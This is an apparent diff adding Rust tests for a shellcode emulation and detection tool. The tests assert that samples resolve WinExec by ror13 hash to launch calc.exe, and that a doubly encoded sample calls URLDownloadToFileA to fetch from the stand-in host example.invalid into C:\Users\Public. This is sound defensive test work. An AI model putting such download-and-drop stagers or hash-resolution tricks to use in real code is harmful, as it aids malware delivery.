@@ -1,0 +1,99 @@
+//! Shellcode of ours, run: what it calls, decodes and makes.
+
+mod common;
+
+use common::{ENCODED_TWICE, STARTS_PROGRAM, STARTS_PROGRAM_WIDE, bytes};
+use machine_code::analysis::{Analysis, Wanted, analyze};
+use machine_code::guest;
+use machine_code::session::{Asked, run};
+use machine_code::view::View;
+
+fn calls(analysis: &Analysis) -> Vec<String> {
+    analysis.calls.iter().map(|call| format!("{}({})", call.name, call.arguments.join(", "))).collect()
+}
+
+fn ids(analysis: Analysis) -> Vec<String> {
+    analysis.findings.into_sorted().into_iter().map(|finding| finding.id).collect()
+}
+
+#[test]
+fn functions_are_found_by_their_hashes_in_both_widths() {
+    for sample in [STARTS_PROGRAM, STARTS_PROGRAM_WIDE] {
+        let analysis = analyze(&bytes(sample), Wanted::default());
+        assert_eq!(calls(&analysis), ["WinExec(\"calc.exe\", 1)", "ExitProcess(0)"]);
+        assert_eq!(analysis.end, "exited");
+        let hashed = analysis.machine.as_ref().map(|machine| machine.hashed_apis.clone()).unwrap_or_default();
+        let names: Vec<_> = hashed.iter().map(|api| (api.name.as_str(), api.algorithm)).collect();
+        assert_eq!(names, [("WinExec", "ror13-add-library"), ("ExitProcess", "ror13-add-library")]);
+        assert_eq!(ids(analysis), ["shellcode", "code-starts-programs"]);
+    }
+}
+
+#[test]
+fn decoders_in_decoders_are_run_and_what_they_make_is_kept() {
+    let analysis = analyze(&bytes(ENCODED_TWICE), Wanted::default());
+    assert_eq!(
+        calls(&analysis)[1],
+        r#"URLDownloadToFileA(0, "http://example.invalid/a", "C:\\Users\\Public\\inert.exe", 0, 0)"#
+    );
+    assert_eq!(analysis.made.len(), 1);
+    assert_eq!(analysis.made[0].kind, "decoded");
+    let decoded = &analysis.made[0].content;
+    assert!(decoded.windows(24).any(|window| window == b"http://example.invalid/a"));
+    assert_eq!(ids(analysis), ["shellcode", "self-decoding-code", "code-downloads"]);
+}
+
+#[test]
+fn bytes_by_chance_are_no_code() {
+    let mut state = 0x9e37_79b9_u32;
+    let mut noise = Vec::new();
+    for _ in 0..50_000 {
+        state = state.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
+        noise.push((state >> 24) as u8);
+    }
+    let analysis = analyze(&noise, Wanted::default());
+    assert!(analysis.machine.is_none());
+    assert!(ids(analysis).is_empty());
+}
+
+#[test]
+fn a_run_ends_with_its_steps() {
+    // `jmp $`, and `mov ecx, -1; mov edi, 8040000h; rep stosb`.
+    for (code, end) in [("ebfe", "steps"), ("b9ffffffffbf00000408f3aa", "no memory at 0x8100000")] {
+        let data = bytes(code);
+        let view = View::raw(&data, 32, 0x40_0000);
+        let asked = Asked { address: 0x40_0000, bits: 32, steps: 2_000_000, ..Asked::default() };
+        let state = run(&view, &asked).0;
+        assert_eq!(state.run.end, end);
+        assert!(state.run.steps <= asked.steps);
+    }
+}
+
+#[test]
+fn calls_without_end_use_up_the_stack_and_no_more() {
+    // `call $`
+    let data = bytes("e8fbffffff");
+    let view = View::raw(&data, 64, 0x40_0000);
+    let asked = Asked { address: 0x40_0000, bits: 64, steps: 1_000_000, ..Asked::default() };
+    let end = run(&view, &asked).0.run.end;
+    assert!(end.starts_with("no memory at 0x7"), "{end}");
+}
+
+/// `(import "env" "log" (func (param i32 i32))) (memory (export "memory") 1) (data (i32.const 16) "hello")`, a `_start`
+/// that logs it, and a `loop` without end.
+const MODULE: &str = "\
+    0061736d0100000001090260027f7f00600000020b0103656e76036c6f67000003030201010503010001071a03066d656d6f\
+    72790200065f73746172740001047370696e00020a120208004110410510000b070003400c000b0b0b0b010041100b056865\
+    6c6c6f000d046e616d6501060100036c6f67";
+
+#[test]
+fn webassembly_is_run_with_stubs_for_what_it_imports() {
+    let ran = guest::run(&bytes(MODULE), true);
+    assert_eq!(ran.error, "");
+    assert_eq!(ran.imports, ["env.log"]);
+    assert_eq!(ran.exports, ["_start", "memory", "spin"]);
+    let ends: Vec<_> = ran.runs.iter().map(|run| (run.name.as_str(), run.end.as_str())).collect();
+    assert_eq!(ends, [("(start)", "returned"), ("_start", "returned"), ("spin", "fuel")]);
+    assert_eq!(ran.calls.len(), 1);
+    assert_eq!((ran.calls[0].name.as_str(), ran.calls[0].arguments[0].as_str()), ("env.log", "\"hello\""));
+}
